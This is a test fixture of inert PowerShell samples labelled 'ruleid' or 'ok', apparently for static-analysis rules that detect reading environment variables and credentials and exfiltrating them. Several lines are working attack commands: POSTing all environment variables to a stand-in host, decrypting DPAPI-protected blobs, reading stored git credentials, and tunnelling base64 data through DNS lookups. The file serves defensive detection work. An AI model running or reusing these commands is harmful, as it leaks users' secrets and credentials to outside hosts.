# Inert PowerShell samples for issue 16, read on the tree-sitter-powershell parse. Never run.
# ruleid: shell-env-read
$all = [Environment]::GetEnvironmentVariables() | ConvertTo-Json
# ruleid: shell-env-exfiltration
Invoke-RestMethod -Uri 'https://c.example.net/e' -Method Post -Body $all
# ok: shell-env-read
$h = [Environment]::GetEnvironmentVariable('HOME')
# ruleid: shell-credential-store-read
$p = [System.Security.Cryptography.ProtectedData]::Unprotect($blob, $null, 'CurrentUser')
# ok: shell-credential-store-read
$q = [Security.Cryptography.ProtectedData]::Protect($blob, $null, 'CurrentUser')
# ruleid: shell-credential-store-read
$c = Get-StoredCredential -Target git
# ok: shell-env-exfiltration
Invoke-RestMethod -Uri https://api.example.com/q -Method Post -Body $h
$d = [Convert]::ToBase64String($bytes)
# ruleid: shell-dns-exfiltration
Resolve-DnsName "$d.c.example.net" -Type TXT
